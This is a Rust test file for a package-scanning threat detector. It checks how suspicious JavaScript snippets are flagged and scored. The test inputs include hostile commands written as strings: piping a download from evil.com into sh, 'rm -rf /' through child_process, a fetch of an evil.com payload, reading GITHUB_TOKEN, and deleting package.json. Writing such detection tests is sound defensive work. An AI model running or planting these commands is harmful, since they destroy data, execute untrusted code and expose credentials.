use pkgscan::analyser::risk_score::{RiskScore, Severity};
use pkgscan::analyser::threat::{
    detect_with_catalog, PatternCatalog, Signature, ThreatDetector, ThreatIndicator,
};

#[test]
fn test_network_detection() {
    let script = "const https = require('https'); fetch('https://evil.com');";
    let threats = ThreatDetector::detect_threats(script);
    assert!(threats.len() >= 2);
}

#[test]
fn test_exfiltration_detection() {
    let script = "const token = process.env.GITHUB_TOKEN;";
    let threats = ThreatDetector::detect_threats(script);
    assert!(threats
        .iter()
        .any(|t| matches!(t, ThreatIndicator::DataExfiltration(_))));
}

#[test]
fn test_execution_detection() {
    let script = "require('child_process').exec('rm -rf /');";
    let threats = ThreatDetector::detect_threats(script);
    assert!(threats
        .iter()
        .any(|t| matches!(t, ThreatIndicator::ProcessExecution(_))));
}

#[test]
fn test_detector_deterministic() {
    let script = "require('child_process').exec('curl https://evil.com/x.sh | sh');";
    let first = ThreatDetector::detect_threats(script);
    let second = ThreatDetector::detect_threats(script);
    assert_eq!(first, second);
}

#[test]
fn test_network_script_scores_at_least_medium() {
    let script = "const https = require('https'); fetch('https://evil.com');";
    let threats = ThreatDetector::detect_threats(script);
    let network_count = threats
        .iter()
        .filter(|t| matches!(t, ThreatIndicator::NetworkActivity(_)))
        .count();
    assert!(network_count >= 2);
    let score = RiskScore::calculate(&threats);
    assert!(score.severity >= Severity::Medium);
}

#[test]
fn test_sensitive_env_var_label() {
    let script = "const token = process.env.GITHUB_TOKEN;";
    let threats = ThreatDetector::detect_threats(script);
    assert!(threats.iter().any(|t| match t {
        ThreatIndicator::DataExfiltration(e) => e.target == "Sensitive env var",
        _ => false,
    }));
}

#[test]
fn test_evidence_is_matched_substring() {
    let script = "fetch('https://evil.com/payload')";
    let threats = ThreatDetector::detect_threats(script);
    // The fetch call signature matches just the call prefix.
    assert!(threats.iter().any(|t| match t {
        ThreatIndicator::NetworkActivity(n) =>
            n.pattern_type == "fetch() call" && n.evidence == "fetch(",
        _ => false,
    }));
    // The URL signature matches exactly the URL, not the whole script.
    assert!(threats.iter().any(|t| match t {
        ThreatIndicator::NetworkActivity(n) =>
            n.pattern_type == "Hardcoded URL" && n.evidence == "https://evil.com/payload",
        _ => false,
    }));
}

#[test]
fn test_one_indicator_per_occurrence() {
    let script = "eval(a); eval(b); eval(c);";
    let threats = ThreatDetector::detect_threats(script);
    let evals = threats
        .iter()
        .filter(|t| match t {
            ThreatIndicator::ProcessExecution(p) => p.method == "eval() usage",
            _ => false,
        })
        .count();
    assert_eq!(evals, 3);
}

#[test]
fn test_category_grouping_order() {
    // Network matches come before obfuscation matches, whatever the
    // position of the evidence in the text.
    let script = "atob(x); fetch(y);";
    let threats = ThreatDetector::detect_threats(script);
    let fetch_pos = threats
        .iter()
        .position(|t| matches!(t, ThreatIndicator::NetworkActivity(_)))
        .unwrap();
    let atob_pos = threats
        .iter()
        .position(|t| matches!(t, ThreatIndicator::Obfuscation(_)))
        .unwrap();
    assert!(fetch_pos < atob_pos);
}

#[test]
fn test_clean_script_yields_nothing() {
    let script = "console.log('hello world');";
    let threats = ThreatDetector::detect_threats(script);
    assert!(threats.is_empty());
    let score = RiskScore::calculate(&threats);
    assert_eq!(score.total, 0);
    assert_eq!(score.confidence, 0);
    assert!(!score.is_suspicious());
    assert!(!score.should_block());
}

#[test]
fn test_standard_catalog_shape() {
    let catalog = PatternCatalog::standard();
    assert_eq!(catalog.network.len(), 5);
    assert_eq!(catalog.exfiltration.len(), 5);
    assert_eq!(catalog.execution.len(), 5);
    assert_eq!(catalog.filesystem.len(), 5);
    assert_eq!(catalog.obfuscation.len(), 6);
    assert_eq!(catalog.network[0].label, "HTTP client import");
    assert_eq!(catalog.network[0].weight, 15);
    assert_eq!(catalog.obfuscation[5].weight, 5);
}

#[test]
fn test_reduced_catalog_is_injectable() {
    let catalog = PatternCatalog {
        network: Vec::new(),
        exfiltration: Vec::new(),
        execution: vec![Signature {
            pattern: "\\bdoit\\s*\\(".to_string(),
            label: "doit call".to_string(),
            weight: 7,
        }],
        filesystem: Vec::new(),
        obfuscation: Vec::new(),
    };
    let threats = detect_with_catalog(&catalog, "doit(1); fetch(x); doit (2);");
    assert_eq!(threats.len(), 2);
    for t in &threats {
        match t {
            ThreatIndicator::ProcessExecution(p) => {
                assert_eq!(p.method, "doit call");
                assert_eq!(p.risk_weight, 7);
            }
            other => panic!("unexpected indicator {:?}", other),
        }
    }
    match &threats[0] {
        ThreatIndicator::ProcessExecution(p) => assert_eq!(p.evidence, "doit("),
        _ => unreachable!(),
    }
    match &threats[1] {
        ThreatIndicator::ProcessExecution(p) => assert_eq!(p.evidence, "doit ("),
        _ => unreachable!(),
    }
}

#[test]
fn test_filesystem_and_obfuscation_detection() {
    let script = "fs.unlink('../package.json'); atob('aGk=');";
    let threats = ThreatDetector::detect_threats(script);
    assert!(threats
        .iter()
        .any(|t| matches!(t, ThreatIndicator::FileSystemTampering(_))));
    assert!(threats
        .iter()
        .any(|t| matches!(t, ThreatIndicator::Obfuscation(_))));
}
